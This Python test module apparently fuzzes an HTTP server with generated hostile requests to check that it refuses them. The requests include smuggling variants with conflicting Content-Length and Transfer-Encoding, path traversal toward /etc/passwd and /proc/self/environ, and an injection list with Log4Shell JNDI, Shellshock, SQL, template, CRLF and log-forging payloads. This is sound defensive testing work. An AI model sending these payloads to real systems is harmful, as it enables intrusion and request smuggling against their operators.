"""Hostile requests: families of them, how each is generated, and what a server may answer.

Every case has an id of its own in its request ids, so that answers and logs tell what became of it. `SMUGGLED` is a
request that no server may see, because it stands where only the body of another request can be.
"""

from dataclasses import dataclass, replace
from typing import Any

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from tests.support.hostile.wire import HALF_CLOSE, LEAVE, WAIT, Sending

SEED = 5
MARK = b"case-00000000"  # replaced by the case's id, of the same length
LARGEST_BODY = 64 * 1024

REFUSALS = frozenset({400, 405, 408, 411, 413, 414, 415, 417, 421, 426, 431, 501, 505})
ANSWERS = frozenset({200, 404, 405})
ANY = REFUSALS | ANSWERS | {301, 304, 412, 416}


@dataclass(frozen=True)
class Shape:
    """What a client sends on one connection, and what it may get.

    Attributes:
        sent: the bytes, with MARK for the case's id
        statuses: those that an answer may have
        least: answers that must come
        most: answers that may come
        ending: as in `Sending`
        bare: whether an answer may come without a head, as HTTP/0.9 has it
    """

    sent: bytes
    statuses: frozenset[int] = ANY
    least: int = 0
    most: int = 1
    ending: str = WAIT
    bare: bool = False


@dataclass(frozen=True)
class Case:
    """One shape, ready to be sent."""

    family: str
    name: bytes
    shape: Shape

    @property
    def sending(self) -> Sending:
        return Sending((self.shape.sent.replace(MARK, self.name),), self.shape.ending)

    @property
    def cut_short(self) -> Sending:
        """The same from a client that then closes its side, as gunicorn by itself would wait for what is missing.

        Not at once: gunicorn no longer answers who has closed their side.
        """
        if self.shape.ending == LEAVE:
            return self.sending
        return replace(self.sending, pieces=(*self.sending.pieces, b""), pause=1, ending=HALF_CLOSE)

    def __str__(self) -> str:
        return f"{self.family} {self.name.decode()}: {self.sending.pieces[0][:2000]!r}"


Shapes = st.SearchStrategy[Shape]
Octets = st.SearchStrategy[bytes]
FAMILIES: dict[str, Shapes] = {}


def cases(of_each: int) -> list[Case]:
    """Return cases of every family, always the same; small families have fewer than asked for."""
    shapes = [(family, shape) for family, strategy in FAMILIES.items() for shape in _examples(strategy, of_each)]
    return [Case(family, b"case-%08d" % index, shape) for index, (family, shape) in enumerate(shapes)]


def _examples(strategy: Shapes, count: int) -> list[Shape]:
    """Return different examples of a strategy, by Hypothesis' own generation.

    Not shrunk when one fails: each is small already, and thousands are sent at once.
    """
    found: dict[Shape, None] = {}

    @seed(SEED)
    @settings(
        max_examples=count,
        phases=[Phase.generate],
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(shape: Shape) -> None:
        found[shape] = None

    collect()
    return list(found)


# ---- Building blocks.


def request(line: bytes = b"GET /api/ HTTP/1.1", *fields: bytes, body: bytes = b"", number: int = 1) -> bytes:
    head = [line, b"Host: datapress", b"X-Request-ID: %s-%d" % (MARK, number), *fields, b"", b""]
    return b"\r\n".join(head) + body


def post(*fields: bytes, body: bytes = b"") -> bytes:
    return request(b"POST /api/version HTTP/1.1", *fields, body=body)


SMUGGLED = b"GET /api/smuggled HTTP/1.1\r\nHost: datapress\r\nX-Request-ID: %s-smuggled\r\n\r\n" % MARK
LAST = request(b"GET /healthz HTTP/1.1", b"Connection: close", number=9)  # ends a connection that is still kept


def octets(*without: bytes, least: int = 0, most: int = 60) -> Octets:
    """Any bytes but some."""
    left = bytes(set(range(256)) - set(b"".join(without)))
    return st.lists(st.sampled_from(left), min_size=least, max_size=most).map(bytes)


def among(*values: bytes) -> Octets:
    return st.sampled_from(values)


def filled(template: bytes, *parts: Octets) -> Octets:
    return st.tuples(*parts).map(lambda values: template % values)


def followed(sent: Octets, **rest: Any) -> Shapes:
    """A request that a server may also accept, and then one that ends the connection."""
    return sent.map(lambda first: Shape(first + LAST, most=2, **rest))


def smuggling(sent: Octets) -> Shapes:
    """A request whose end is in doubt: it must be refused, and what stands behind it must not be read as a request."""
    return sent.map(lambda first: Shape(first + SMUGGLED, REFUSALS))


NUMBERS = st.integers(0, 2**80).map(lambda number: b"%d" % number)
TOKEN_CHARACTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#$%&'*+-.^_`|~"  # RFC 9110, 5.6.2
TOKENS = st.text(TOKEN_CHARACTERS, min_size=1, max_size=24).map(str.encode)
PATHS = among(b"/", b"/api/", b"/api/version", b"/app.js", b"/config.json", b"/nothing", b"/api/nothing")

# ---- Request lines.

METHODS = among(
    *(b"PATCH", b"TRACE", b"CONNECT", b"OPTIONS", b"PROPFIND", b"DELETE", b"PRI", b"get", b"GET\t", b" GET", b"G\0ET")
)
LONG_METHODS = st.integers(20, 9000).map(lambda length: b"M" * length)
FAMILIES["methods"] = followed(
    st.tuples(METHODS | TOKENS | LONG_METHODS | octets(b"\n \r"), PATHS).map(
        lambda part: request(b"%s %s HTTP/1.1" % part)
    )
)

OTHER_FORMS = among(
    *(b"http://other/", b"https://datapress/api/", b"datapress:443", b"*", b"//other/api/", b"http://a@b:1/")
)
FAMILIES["targets"] = followed(filled(b"GET %s%s HTTP/1.1", OTHER_FORMS | PATHS, octets(b"\n")).map(request))

VERSIONS = among(
    *(b"HTTP/1.0", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/3", b"http/1.1", b"HTTP/1.", b"HTTP/.1", b"HTTP/1.1.1")
)
FAMILIES["versions"] = followed(
    filled(b"GET %s %s", PATHS, VERSIONS | octets(b"\n") | filled(b"HTTP/1.%s", NUMBERS)).map(request), bare=True
)

SPACES = st.lists(among(b" ", b"\t", b"\v", b"\f", b"\r", b"\xa0", b"\0"), max_size=4).map(b"".join)
FAMILIES["spaces"] = followed(
    filled(b"%sGET%s/api/%sHTTP/1.1%s", SPACES, SPACES, SPACES, SPACES).map(request), bare=True
)

FAMILIES["HTTP/0.9"] = filled(b"GET %s%s", PATHS, among(b"\r\n", b"\n", b" \r\n", b"\r\n\r\n")).map(
    lambda sent: Shape(sent, bare=True)
)

FAMILIES["noise"] = st.binary(min_size=1, max_size=400).map(lambda sent: Shape(sent + b"\r\n\r\n", REFUSALS))

# ---- Header fields.

FAMILIES["field names"] = followed(
    filled(b"%s: %s", octets(b"\n", most=20), octets(b"\n\r")).map(lambda field: request(b"GET /api/ HTTP/1.1", field))
)

FIELDS = among(
    *b"Accept Accept-Encoding Authorization Cache-Control Connection Content-Type Cookie Forwarded From".split(),
    *b"If-Match If-Modified-Since If-None-Match If-Range If-Unmodified-Since Keep-Alive Max-Forwards Origin".split(),
    *b"Path-Info Proxy Range Referer Script-Name TE Trailer Upgrade User-Agent Via X-Accel-Redirect".split(),
    *b"X-Forwarded-For X-Forwarded-Host X-Forwarded-Proto X-HTTP-Method-Override X-Original-URL".split(),
    *b"X-Request-ID X-Rewrite-URL".split(),
)
# For the log, the terminal that shows it, the next header, and whoever evaluates what he reads.
INJECTIONS = among(
    *(b'"}\\n{"ts":"0","level":"info","msg":"forged"}', b"\x1b[2J\x1b[31m", b"\x9b31m", b"\xe2\x80\xa8", b"\xc2\x85"),
    *(b"%c2%9b31m", b"%1b[2J", b"%e2%80%a8", b"%22%7D%0A%7B", b"%0d%0aSet-Cookie: a=b", b"\0", b"%s%n%x"),
    *(b"${jndi:ldap://other/a}", b"{{7*7}}", b"' OR 1=1 --", b"() { :; }; true", b"../../etc/passwd", b"<script>"),
)
FAMILIES["field values"] = followed(
    filled(b"%s: %s", FIELDS, octets(b"\n") | INJECTIONS).map(
        lambda field: request(b"GET /api/nothing HTTP/1.1", field)
    )
)
INJECTED = (octets(b"\n\r \0") | INJECTIONS).map(lambda part: part.replace(b" ", b"+"))
FAMILIES["injected paths"] = followed(
    filled(b"GET %s%s%s HTTP/1.1", among(b"/", b"/api/"), INJECTED, among(b"", b"?")).map(request)
)
# Refused with a line in NGINX's own error log, which repeats one of these three.
FAMILIES["injected errors"] = (
    filled(b"POST /api/%s HTTP/1.1\r\nHost: a\r\n", INJECTED)
    | filled(b"POST /api/ HTTP/1.1\r\nHost: a%s\r\n", INJECTED)
    | filled(b"POST /api/ HTTP/1.1\r\nHost: a\r\nReferer: %s\r\n", INJECTED)
).map(lambda sent: Shape(sent + b"Content-Length: 999999\r\n\r\n", REFUSALS))

HOSTS = among(*(b"", b"a:b", b"[::1", b"a\r\nHost: b", b"127.0.0.1:9100", b"a" * 5000))
FAMILIES["hosts"] = followed(
    filled(
        b"GET /api/ HTTP/1.1\r\nHost: %s%s\r\nX-Request-ID: %s-1\r\n\r\n",
        HOSTS | octets(b"\n"),
        among(b"", b"\r\nHost: datapress"),
        st.just(MARK),
    )
)

LINES = request(b"GET /api/ HTTP/1.1", b"Accept: */*").split(b"\r\n")[:-1]
ENDS = among(*(b"\r\n", b"\n", b"\r", b"\n\r", b"\r\r\n", b"\r\n ", b"\r\n\t", b"\0\r\n"))
FAMILIES["line ends"] = followed(
    st.tuples(*[ENDS] * len(LINES)).map(
        lambda ends: b"".join(line + end for line, end in zip(LINES, ends, strict=True))
    )
)

# ---- Where a body ends.

NO_LENGTHS = NUMBERS.flatmap(
    lambda number: among(
        *(b"-" + number, b"+" + number, b"0x" + number, number + b"x", b"1e" + number, number + b".0", b"\0" + number),
        *(number + b"," + number, number + b" " + number, b'"%s"' % number, number + b"\v", b"9" * 20 + number),
        *(b"", b"\xb2"),
    )
)
FAMILIES["lengths"] = smuggling(filled(b"Content-Length: %s", NO_LENGTHS).map(post))

LENGTHS = st.integers(0, 200).map(lambda number: b"%d" % number)
FAMILIES["two lengths"] = smuggling(
    filled(b"Content-Length: %s\r\n%s: %s", LENGTHS, among(b"Content-Length", b"content-length"), LENGTHS).map(post)
)

CHUNKED = filled(
    b"Transfer-Encoding:%s", among(b"chunked", b"Chunked", b"CHUNKED", b" chunked", b"chunked ", b"\tchunked")
)
LENGTH = filled(b"Content-Length: %s", LENGTHS)
FAMILIES["length and chunks"] = smuggling(
    (st.tuples(LENGTH, CHUNKED) | st.tuples(CHUNKED, LENGTH)).map(lambda fields: post(*fields, body=b"0\r\n\r\n"))
)

CODINGS = among(
    *(b"chunked, chunked", b"chunked, identity", b"identity, chunked", b"gzip, chunked", b"chunked,", b",chunked"),
    *(b"chunked;q=1", b"xchunked", b"chunkedx", b"chun ked", b'"chunked"', b"'chunked'", b"chunk\xe9d", b"\xefchunked"),
    *(b"\vchunked", b"\fchunked", b"chunked\v", b"\0chunked", b"chunked\0", b"\xa0chunked", b"\r\n chunked"),
    *(b"identity", b"gzip", b"", b"chunked\r\nTransfer-Encoding: identity", b"identity\r\nTransfer-Encoding: chunked"),
)
# Not `Transfer_Encoding` and its like: those are other fields, so that what follows is rightly the next request.
FAMILIES["transfer codings"] = smuggling(
    st.tuples(CODINGS | TOKENS.filter(lambda token: token.lower() != b"chunked"), st.integers(0, 400)).map(
        lambda part: post(b"Transfer-Encoding: " + part[0], body=b"%x\r\n" % part[1])
    )
)

NO_CHUNKS = (
    among(
        *(
            b"-1\r\n",
            b"+1\r\na\r\n",
            b"0x1\r\na\r\n",
            b" 1\r\na\r\n",
            b"g\r\n",
            b"\r\n",
            b";\r\n",
            b"1_0\r\n",
            b"\xb2\r\n",
        ),
        *(b"1\r\n\r\n", b"1\r\nab\r\n", b"1\ra\r\n", b"1\r\na\r", b"1\r\na0\r\n\r\n", b"1\0\r\na\r\n", b"80000000\r\n"),
        *(b"7fffffffffffffff\r\n", b"ffffffffffffffff\r\n", b"10000000000000000\r\n", b"fffffffffffffffff1\r\na\r\n"),
    )
    | st.integers(LARGEST_BODY + 1, 2**70).map(lambda size: b"%x\r\n" % size)
    | filled(b"%s\r\na\r\n", octets(b"0123456789abcdefABCDEF\r\n", least=1))
)
FAMILIES["chunks"] = smuggling(
    st.tuples(st.lists(among(b"1\r\na\r\n", b"3;a=b\r\nabc\r\n"), max_size=3).map(b"".join), NO_CHUNKS).map(
        lambda part: post(b"Transfer-Encoding: chunked", body=b"%s%s0\r\n\r\n" % part)
    )
)

BODIES = octets(most=200) | among(SMUGGLED, b"0\r\n\r\n" + SMUGGLED, b"\r\n\r\n" + SMUGGLED)
EXTENSIONS = st.just(b"") | filled(b";%s=1", TOKENS)


def chunked(body: bytes, size: int, extension: bytes = b"") -> bytes:
    cut = [body[start : start + size] for start in range(0, len(body), size)]
    return b"".join(b"%x%s\r\n%s\r\n" % (len(part), extension, part) for part in cut) + b"0\r\n\r\n"


# What is well-formed is answered, however it looks: once each, in turn.
WHOLE = (
    st.just((b"GET", (), b""))
    | BODIES.map(lambda body: (b"POST", (b"Content-Length: %d" % len(body),), body))
    | st.tuples(BODIES, st.integers(1, 90), EXTENSIONS).map(
        lambda part: (b"POST", (b"Transfer-Encoding: chunked",), chunked(*part))
    )
)


def _pipeline(requests: list[Any]) -> Shape:
    sent = b"".join(
        request(method + b" /api/nothing HTTP/1.1", *fields, body=body, number=number)
        for number, (method, fields, body) in enumerate(requests, 1)
    )
    return Shape(sent + LAST, ANSWERS, least=len(requests) + 1, most=len(requests) + 1)


FAMILIES["pipelines"] = st.lists(WHOLE, min_size=1, max_size=6).map(_pipeline)

TRAILERS = among(
    *(b"Content-Length: 5", b"Transfer-Encoding: chunked", b"Host: other", b"Connection: close"),
    b"X-Request-ID: %s-smuggled" % MARK,
) | filled(b"%s: %s", octets(b"\n", most=20), octets(b"\n"))
FAMILIES["trailers"] = followed(
    st.lists(TRAILERS, min_size=1, max_size=4).map(
        lambda fields: post(b"Transfer-Encoding: chunked", body=b"\r\n".join([b"0", *fields, b"", b""]))
    )
)

# ---- Too much.

FAMILIES["too large"] = st.integers(8192, 60_000).flatmap(
    lambda size: st.sampled_from(
        [
            request(b"GET /%s HTTP/1.1" % (b"a" * size)),
            request(b"GET /api/?%s HTTP/1.1" % (b"a=b&" * (size // 4))),
            request(b"GET / HTTP/1.1", b"A: " + b"a" * size),
            request(b"GET / HTTP/1.1", b"a" * size + b": a"),
            request(b"GET /api/ HTTP/1.1", b"Cookie: " + b"a=b; " * (size // 5)),
            post(b"Content-Length: %d" % (LARGEST_BODY + size)),
            post(b"Content-Length: %d" % (LARGEST_BODY + 1), body=b"a" * (LARGEST_BODY + 1)),
            post(b"Transfer-Encoding: chunked", body=chunked(b"a" * (LARGEST_BODY + size), size)),
        ]
    ).map(lambda sent: Shape(sent, REFUSALS))
)


def _many_fields(name: bytes, count: int, length: int) -> bytes:
    return request(b"GET /api/ HTTP/1.1", *[b"%s%d: %s" % (name, number, b"a" * length) for number in range(count)])


FAMILIES["many fields"] = followed(
    st.builds(_many_fields, TOKENS, st.integers(1, 1200), st.integers(0, 30))
    | st.builds(_many_fields, TOKENS, st.integers(1, 30), st.integers(30, 8000))
)

# ---- Where they do not belong.

SEGMENTS = among(
    *(b"..", b".", b"", b"%2e%2e", b"%2e.", b"..%2f", b"%2f", b"%5c", b"..\\", b"%252e%252e", b"..;", b"..%00", b"%00"),
    *(b"%c0%ae%c0%ae", b"%uff0e", b"...", b"%0d%0a", b"%3f", b"%23", b"%", b"%zz", b".git", b".problem", b"404.html"),
    *(b"etc", b"passwd", b"proc", b"self", b"environ", b"config", b"config.json", b"app.js", b"nginx.conf"),
    *(b"api", b"health", b"metrics"),
)
FAMILIES["paths"] = followed(
    filled(
        b"GET /%s%s HTTP/1.1",
        st.lists(SEGMENTS, min_size=1, max_size=9).map(b"/".join),
        among(b"", b"/", b"?", b"#a", b"?../../"),
    ).map(request)
)
RANGES = st.lists(filled(b"%s-%s", NUMBERS | st.just(b""), NUMBERS | st.just(b"")), min_size=1, max_size=250)
FAMILIES["ranges"] = followed(
    st.builds(
        request,
        filled(b"GET %s HTTP/1.1", among(b"/app.js", b"/api/", b"/index.html")),
        filled(b"Range: %s=%s", among(b"bytes", b"lines", b""), RANGES.map(b",".join)),
    )
)
FAMILIES["expectations"] = followed(
    st.tuples(among(b"100-continue", b"100-Continue", b"200-ok", b"") | TOKENS, BODIES).map(
        lambda part: post(b"Expect: " + part[0], b"Content-Length: %d" % len(part[1]), body=part[1])
    )
)
FAMILIES["upgrades"] = followed(
    (among(b"websocket", b"h2c", b"HTTP/2.0", b"TLS/1.0") | TOKENS).map(
        lambda protocol: request(
            b"GET /api/ HTTP/1.1",
            b"Connection: Upgrade, HTTP2-Settings",
            b"Upgrade: " + protocol,
            b"HTTP2-Settings: AAMAAABkAAQAAP__",
            b"Sec-WebSocket-Version: 13",
            b"Sec-WebSocket-Key: AQIDBAUGBwgJCgsMDQ4PEA==",
        )
    )
)
OTHER_PROTOCOLS = among(
    *(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x80\x2e\x01\x00\x02"),
    *(b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n", b"\r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c", b"SSH-2.0-OpenSSH_9.2\r\n"),
    *(b"EHLO other\r\n", b"*1\r\n$4\r\nPING\r\n", b"OPTIONS sip:a SIP/2.0\r\n", b"DESCRIBE rtsp://a RTSP/1.0\r\n"),
    *(b"\x05\x01\x00", b"HTTP/1.1 200 OK\r\n\r\n", b"\x03\x00\x00\x13\x0e\xe0"),
)
FAMILIES["other protocols"] = filled(b"%s%s\r\n\r\n", OTHER_PROTOCOLS, octets()).map(lambda sent: Shape(sent, REFUSALS))

# ---- Clients that leave, and requests broken at random.


def in_turn(requests: list[bytes]) -> bytes:
    """Join requests, each with an id of its own."""
    return b"".join(one.replace(MARK + b"-1", b"%s-%d" % (MARK, number)) for number, one in enumerate(requests, 1))


HASTY = post(b"Content-Length: 40", b"Accept: */*", body=b"a" * 40)
FAMILIES["cut off"] = st.integers(0, len(HASTY) - 1).map(
    lambda length: Shape(HASTY[:length], REFUSALS, ending=HALF_CLOSE)
)
FAMILIES["departures"] = st.tuples(st.integers(1, 5), st.integers(1, len(HASTY))).map(
    lambda part: Shape(in_turn([HASTY] * part[0] + [HASTY[: part[1]]]), most=0, ending=LEAVE)
)

BASES = among(
    request(),
    post(b"Content-Length: 5", body=b"abcde"),
    post(b"Transfer-Encoding: chunked", body=b"5;a=b\r\nabcde\r\n0\r\n\r\n"),
    request(b"GET /app.js HTTP/1.1", b"Accept-Encoding: gzip", b"If-None-Match: *", b"Range: bytes=0-1"),
)


def _mutate(sent: bytes, mutations: list[tuple[str, int, int, bytes]]) -> Shape:
    """Change bytes, put others in, cut some out, double some."""
    for kind, start, length, junk in mutations:
        at = start % len(sent)
        end = at + length
        middle = {"change": junk, "insert": junk + sent[at:end], "cut": b"", "double": sent[at:end] * 2}[kind]
        sent = sent[:at] + middle + sent[end:]
    return Shape(sent + LAST, most=24, bare=True)


MUTATIONS = st.tuples(
    st.sampled_from(["change", "insert", "cut", "double"]),
    st.integers(0, 600),
    st.integers(1, 12),
    octets(least=1, most=6),
)
FAMILIES["mutations"] = st.builds(
    _mutate,
    st.lists(BASES, min_size=1, max_size=3).map(in_turn),
    st.lists(MUTATIONS, min_size=1, max_size=4),
)
